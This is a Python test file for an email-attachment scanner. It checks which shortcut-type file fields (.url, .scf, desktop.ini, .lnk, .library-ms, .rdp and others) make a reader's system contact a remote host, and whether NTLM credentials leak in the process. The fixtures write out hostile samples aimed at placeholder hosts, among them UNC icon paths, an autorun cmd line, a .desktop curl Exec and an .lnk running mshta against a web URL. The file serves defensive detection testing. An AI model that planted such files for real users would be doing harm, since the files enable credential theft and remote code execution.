"""Shortcuts: which field names which host, and whether it is asked when the file is shown or when it is opened."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.observe.make_file_samples import CONNECTOR, LIBRARY, SEARCH, mail, shortcuts
from tests.observe.shortcut_files import link, network_item, property_list

from tocsin.mail.mime import scan
from tocsin.model.attached import AttachedFile, FileReading
from tocsin.observe.beacons import shortcut
from tocsin.observe.beacons.assemble import observe_beacons
from tocsin.observe.files import kinds
from tocsin.observe.files.allowance import Allowance
from tocsin.observe.tokens import NO_NEEDLES
from tocsin.observe.vendors import index_catalogue

SHARE = "\\\\files.beacon.example\\s"
HREF = "file://files.beacon.example/s"
WEB = "https://d.beacon.example/77ab"
SHOWN, CLICKED = "attachment", "click"
FILES = {name: (file, data) for name, file, data in shortcuts()}


def look(name: str, data: bytes | str) -> FileReading:
    data = data.encode() if isinstance(data, str) else data
    kind = kinds.kind_of(data[: kinds.HEAD], name, "")
    assert kind == kinds.SHORTCUT
    return shortcut.read(AttachedFile(data, name, "", kind, "2"), Allowance())


def observed(name: str, data: bytes | str) -> list[tuple[str, str, bool]]:
    """URL, trigger and whether an NTLM response goes there, of every beacon in the order found."""
    data = data.encode() if isinstance(data, str) else data
    found = observe_beacons(scan(mail("shortcut", 0, name, data)), index_catalogue((), {}), NO_NEEDLES)
    assert {beacon.technique for beacon in found.beacons} <= {"shortcut"}
    return [(beacon.url, beacon.trigger, "ntlm" in beacon.leaks) for beacon in found.beacons]


INTERNET = "[InternetShortcut]\r\n"
FIELDS = [
    ("a.url", f"{INTERNET}URL={WEB}", WEB, CLICKED),
    ("a.url", f"{INTERNET}url = {WEB}", WEB, CLICKED),
    ("a.url", f"[DEFAULT]\nBASEURL={WEB}\n{INTERNET}", WEB, CLICKED),
    ("a.url", f"{INTERNET}URL={SHARE}", HREF, SHOWN),
    ("a.url", f"{INTERNET}URL=file:////files.beacon.example/s", HREF, SHOWN),
    ("a.url", f"{INTERNET}IconFile={SHARE}", HREF, SHOWN),
    ("a.url", f"{INTERNET}IconFile=//files.beacon.example/s", HREF, SHOWN),
    ("a.url", f"{INTERNET}IconFile=\\\\?\\UNC\\files.beacon.example\\s", HREF, SHOWN),
    ("a.url", f'{INTERNET}IconFile="{SHARE}"', HREF, SHOWN),
    ("a.url", f"{INTERNET}IconFile={WEB}", WEB, SHOWN),
    ("a.url", f"{INTERNET}WorkingDirectory={SHARE}", HREF, CLICKED),
    ("a.url", f"[InternetShortcut.W]\r\nURL={WEB}+AC8-", f"{WEB}/", CLICKED),
    ("a.url", f"{INTERNET}URL=search-ms:crumb=location:%5C%5Cfiles.beacon.example%5Cs", HREF, CLICKED),
    ("a.website", f"{INTERNET}URL={WEB}", WEB, CLICKED),
    ("a.scf", f"[Shell]\r\nIconFile={SHARE},3", HREF, SHOWN),
    ("desktop.ini", f"[.ShellClassInfo]\r\nIconResource={SHARE},-12", HREF, SHOWN),
    ("desktop.ini", f"[.ShellClassInfo]\r\nLocalizedResourceName=@{SHARE},-1", HREF, SHOWN),
    ("desktop.ini", f"[ViewState]\r\nLogo={SHARE}", HREF, SHOWN),
    ("autorun.inf", f"[autorun]\r\nicon={SHARE}", HREF, SHOWN),
    ("autorun.inf", f"[autorun]\r\nshell\\open\\command=cmd /c {SHARE} /x", HREF, CLICKED),
    ("a.theme", f"[Theme]\r\nBrandImage={SHARE}", HREF, SHOWN),
    ("a.theme", f"[VisualStyles]\r\nPath={SHARE}", HREF, CLICKED),
    ("a.theme", f"[Slideshow]\r\nRssFeed={WEB}", WEB, CLICKED),
    ("a.desktop", f"[Desktop Entry]\nURL[fr]={WEB}", WEB, CLICKED),
    ("a.desktop", f"[Desktop Entry]\nExec=sh -c 'curl {WEB}'", WEB, CLICKED),
    ("a.desktop", f"[Desktop Entry]\nIcon={WEB}", WEB, SHOWN),
    ("a.rdp", "full address:s:desk.beacon.example:3389", "rdp://desk.beacon.example:3389", CLICKED),
    ("a.rdp", "gatewayhostname:s:gate.beacon.example", "rdp://gate.beacon.example", CLICKED),
    ("a.library-ms", LIBRARY % SHARE, HREF, SHOWN),
    ("a.library-ms", LIBRARY % f"<![CDATA[{SHARE}]]>", HREF, SHOWN),
    ("a.library-ms", LIBRARY % "&#x5c;&#92;files.beacon.example\\s", HREF, SHOWN),
    ("a.library-ms", LIBRARY % WEB, WEB, SHOWN),
    ("a.search-ms", SEARCH % SHARE, HREF, SHOWN),
    ("a.searchConnector-ms", CONNECTOR % SHARE, HREF, SHOWN),
    ("a.webloc", property_list(WEB), WEB, CLICKED),
    ("a.webloc", property_list(WEB, binary=True), WEB, CLICKED),
    ("a.webloc", property_list(f"{WEB}/é", binary=True), f"{WEB}/", CLICKED),
    ("a.inetloc", property_list("afp://files.beacon.example/s"), "afp://files.beacon.example/s", CLICKED),
    ("a.m3u", f"#EXTM3U\n{SHARE}", HREF, CLICKED),
    ("a.pls", f"[playlist]\nFile1={WEB}", WEB, CLICKED),
    ("a.wax", f'<asx><entry><ref href="{WEB}"/></entry></asx>', WEB, CLICKED),
    (
        "a.wpl",
        f'<?wpl version="1.0"?><smil><body><seq><media src="{WEB}"/></seq></body></smil>',
        WEB,
        CLICKED,
    ),
    ("a.xspf", f"<playlist><track><location>{WEB}</location></track></playlist>", WEB, CLICKED),
    ("a.jnlp", f'<jnlp codebase="{WEB}"/>', WEB, CLICKED),
    ("a.application", f'<a><deploymentProvider codebase="{WEB}"/></a>', WEB, CLICKED),
    ("a.lnk", link(icon=SHARE), HREF, SHOWN),
    ("a.lnk", link(share=SHARE), HREF, SHOWN),
    ("a.lnk", link(share=SHARE, icon="C:\\a.ico"), HREF, CLICKED),
    ("a.lnk", link(ids=network_item(SHARE)), HREF, SHOWN),
    ("a.lnk", link(ids=b"\x61\x80" + WEB.encode("utf-16-le") + b"\x00\x00"), WEB, SHOWN),
    ("a.lnk", link(working_directory=SHARE, icon="C:\\a.ico"), HREF, CLICKED),
    ("a.lnk", link(arguments=f"/c mshta {WEB}", icon="C:\\a.ico"), WEB, CLICKED),
    ("a.lnk", link(variables=("icon", SHARE)), HREF, SHOWN),
    ("a.lnk", link(variables=("target", SHARE), icon="C:\\a.ico"), HREF, CLICKED),
]


@pytest.mark.parametrize(("name", "data", "url", "trigger"), FIELDS)
def test_a_field_names_a_host(name: str, data: bytes | str, url: str, trigger: str) -> None:
    found = observed(name, data)
    assert [(one.startswith(url), when) for one, when, _ in found] == [(True, trigger)]
    assert [logs_on for _, _, logs_on in found] == [url == HREF]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.url", f"{INTERNET}URL=file:///C:/Windows/notepad.exe\r\nIconFile=%SystemRoot%\\a.ico"),
        ("a.url", f"{INTERNET}IconFile=\\\\.\\C:\\a.ico\r\nComment={WEB}"),
        ("a.url", f"{INTERNET};URL={WEB}"),
        ("a.library-ms", LIBRARY % "shell:Downloads"),
        ("a.library-ms", LIBRARY % f"x<!-- {SHARE} -->"),
        ("a.desktop", f"[Desktop Entry]\nComment={WEB}\nExec=gedit"),
        ("a.lnk", link(icon="C:\\Windows\\a.dll", arguments="/c dir", working_directory="%TEMP%")),
    ],
)
def test_what_lies_on_the_readers_own_disk_is_left_out(name: str, data: bytes | str) -> None:
    assert observed(name, data) == []


def test_wide_text_is_read_with_and_without_its_mark() -> None:
    text = f"full address:s:desk.beacon.example\r\naudiomode:i:0\r\nusername:s:{'x' * 20}\r\n"
    for data in (text.encode("utf-16"), text.encode("utf-16-le")):
        assert observed("a.rdp", data) == [("rdp://desk.beacon.example", CLICKED, False)]


def test_a_link_cut_short_is_said() -> None:
    reading = look("plan.lnk", link(working_directory=SHARE, arguments="x" * 50, icon=SHARE)[:-60])
    assert [defect.code for defect in reading.defects] == ["shortcut-damaged"]
    assert reading.not_evaluated == ("The shortcut “plan.lnk” is damaged; not all of it was read.",)
    assert [found.url for found in reading.references] == [SHARE]


def test_of_a_huge_shortcut_the_first_part_is_read_and_that_is_said() -> None:
    reading = look("a.url", f"{INTERNET}URL={WEB}\r\n" + "x=y\r\n" * 300_000)
    assert [found.url for found in reading.references] == [WEB]
    assert [defect.code for defect in reading.defects] == ["shortcut-too-large"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.url", INTERNET + " " * 900_000),
        ("a.url", INTERNET + "a" * 900_000 + "="),
        ("a.url", "[\n" * 400_000),
        ("a.library-ms", "<" * 900_000),
        ("a.library-ms", "<a " * 300_000),
        ("a.library-ms", "<libraryDescription>" + "a=" * 400_000 + "'"),
        ("a.library-ms", "<!--" * 200_000),
        ("a.library-ms", "<a>" + " " * 900_000),
        ("a.webloc", "bplist00" + "http:" * 180_000),
        ("a.webloc", "bplist00" + "\0h" * 400_000),
        ("a.rdp", ":s:" * 300_000),
    ],
)
def test_text_made_to_cost_time_ends(name: str, data: str) -> None:
    reading = look(name, data)
    assert len(reading.references) <= 10_000


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(sorted(FILES)), st.data())
def test_damage_never_raises(sample: str, data: st.DataObject) -> None:
    name, whole = FILES[sample]
    raw = bytearray(whole)
    for at in data.draw(st.lists(st.integers(0, len(raw) - 1), max_size=8)):
        raw[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(raw)))
    for broken in (bytes(raw), bytes(raw[:cut])):
        reading = shortcut.read(AttachedFile(broken, name, "", kinds.SHORTCUT, "2"), Allowance())
        assert len(reading.defects) == len(reading.not_evaluated)
        assert all(found.trigger in (SHOWN, CLICKED) for found in reading.references)
